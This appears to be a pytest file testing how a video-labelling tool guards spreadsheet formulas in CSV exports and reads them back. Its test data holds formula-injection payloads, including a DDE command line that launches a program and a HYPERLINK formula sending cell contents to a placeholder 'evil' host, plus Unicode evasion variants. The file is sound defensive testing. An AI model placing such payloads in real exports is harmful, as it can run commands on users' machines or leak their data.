"""What a spreadsheet would take for a formula is guarded in a CSV, and reads back as it was."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from framegate.jobs.formulas import guard, unguard
from framegate.pipelines.commit.labels import read_labels
from framegate.pipelines.commit.output import Output
from framegate.schemas.qa import Question
from tests.certify.archive import Archive, put
from tests.outputs import CONFIG_ID
from tests.security.hostile_texts import run

FORMULAS = [
    pytest.param("=1+1", True, id="equals"),
    pytest.param("+cmd|' /C calc'!A0", True, id="plus-dde"),
    pytest.param("-2+3+cmd", True, id="minus"),
    pytest.param("@SUM(A1)", True, id="at"),
    pytest.param("\t=1+1", True, id="tab"),
    pytest.param("\r=1+1", True, id="carriage-return"),
    pytest.param("  =1+1", True, id="blanks-before"),
    pytest.param("\n=1+1", True, id="newline-before"),
    pytest.param("\u200b=1+1", True, id="zero-width-before"),
    pytest.param("\ufeff=1+1", True, id="byte-order-mark-before"),
    pytest.param("\xa0=1+1", True, id="no-break-space-before"),
    pytest.param("\uff1d1+1", True, id="full-width-equals"),
    pytest.param("\uff0b1\uff0d1", True, id="full-width-plus"),
    pytest.param("\uff20SUM(A1)", True, id="full-width-at"),
    pytest.param("'=1+1", True, id="a-quote-of-its-own-before"),
    pytest.param('=HYPERLINK("https://evil?"&A1,"x")', True, id="hyperlink-sends-cells"),
    pytest.param('"=1+1"', False, id="quoted-is-no-formula"),
    pytest.param("-5", False, id="negative-number"),
    pytest.param("+1.5e-3", False, id="signed-number"),
    pytest.param("a=b", False, id="sign-inside"),
    pytest.param("'tis", False, id="apostrophe"),
]


@pytest.mark.parametrize(("text", "is_formula"), FORMULAS)
def test_a_formula_is_guarded_and_reads_back(text: str, is_formula: bool) -> None:
    assert guard(text) == ("'" + text if is_formula else text)
    assert unguard(str(guard(text))) == text


def test_blanks_without_end_are_guarded_at_once() -> None:
    assert guard("\n\x85\u2028" * 20_000 + "x") == "\n\x85\u2028" * 20_000 + "x"


@pytest.fixture(scope="module")
def exported(hostile_index: str, tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, object]]:
    """By option: what `query --out rows.csv` makes of each formula. Parquet and JSON have them as they are."""
    folder = tmp_path_factory.mktemp("csv")
    texts = [str(each.values[0]) for each in FORMULAS]
    column = ", ".join("'" + text.replace("'", "''") + "'" for text in texts)
    sql = f'SELECT unnest([{column}]) AS "=name"'
    found: dict[str, dict[str, object]] = {}
    for name, options in {"guarded": ("r.csv",), "plain": ("p.csv", "--plain-csv"), "json": ("r.json",),
                          "parquet": ("r.parquet",)}.items():  # fmt: skip
        path = folder / options[0]
        assert run("query", sql, "-o", hostile_index, "--out", str(path), *options[1:]).exit_code == 0
        if path.suffix == ".csv":
            head, *rows = csv.reader(io.StringIO(path.read_bytes().decode(), newline=""))
            cells = [row[0] for row in rows]
            found[name] = {"head": head[0], **dict(zip(texts, cells, strict=True))}
        elif path.suffix == ".json":
            found[name] = {row["=name"]: row["=name"] for row in json.loads(path.read_text())["rows"]}
        else:
            found[name] = {text: text for text in pq.read_table(path)["=name"].to_pylist()}
    return found


@pytest.mark.parametrize(("text", "is_formula"), FORMULAS)
def test_a_formula_in_a_query(exported: dict[str, dict[str, object]], text: str, is_formula: bool) -> None:
    assert exported["guarded"][text] == ("'" + text if is_formula else text)
    assert exported["plain"][text] == exported["json"][text] == exported["parquet"][text] == text
    assert (exported["guarded"]["head"], exported["plain"]["head"]) == ("'=name", "=name")


def test_numbers_of_a_query_are_numbers(hostile_index: str) -> None:
    assert run("query", "SELECT -5 AS a, -0.5 AS b", "-o", hostile_index, "-f", "csv").stdout == "a,b\n-5,-0.5\n"


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_an_option_that_is_a_formula_goes_out_as_a_label_and_comes_back(tmp_path: Path, suffix: str) -> None:
    options = ("=1+1", "'=2", "-5", "a\u2028b")
    question = Question(id="black_seen", text="=cmd()", type="choice", options=options)
    output = Output.at(str(tmp_path / "index"))
    put(output, Archive(num_films=4, questions=(question,), says="=1+1"))
    job = tmp_path / "job.yaml"
    job.write_text(
        f"input: {{videos: {tmp_path}/videos/}}\nmodel: {{name: nowhere}}\noutput: {{uri: {tmp_path}/index}}\n"
        "questions: [{id: q, text: Is anyone there, type: yes_no}]\ngate: {audit: {rate: 0.5}}\n"
    )
    path = tmp_path / f"labels{suffix}"
    command = ("label", str(job), "--config-id", CONFIG_ID)
    result = run(*command, "--claim", "error", "--most", "4", "--out", str(path))
    assert result.exit_code == 0, result.output
    if suffix == ".csv":
        rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode(), newline="")))
        assert {row["question"] for row in rows} == {"'=cmd()"}
        assert {row["first_value"] for row in rows} == {"'=1+1"}
        text = io.StringIO(newline="")
        writer = csv.DictWriter(text, rows[0])
        writer.writeheader()
        writer.writerows(row | {"label": guard(option)} for row, option in zip(rows, options, strict=True))
        path.write_bytes(text.getvalue().encode())
    else:
        rows = [json.loads(line) for line in path.read_text().split("\n")[:-1]]
        assert {row["question"] for row in rows} == {"=cmd()"}
        lines = [row | {"label": option} for row, option in zip(rows, options, strict=True)]
        path.write_text("".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines))
    result = run(*command, "--read", str(path), "--by", "=anna")
    assert "4 labels stored" in result.output, result.output
    assert {label.answer for label in read_labels(output, CONFIG_ID).values()} == set(options)
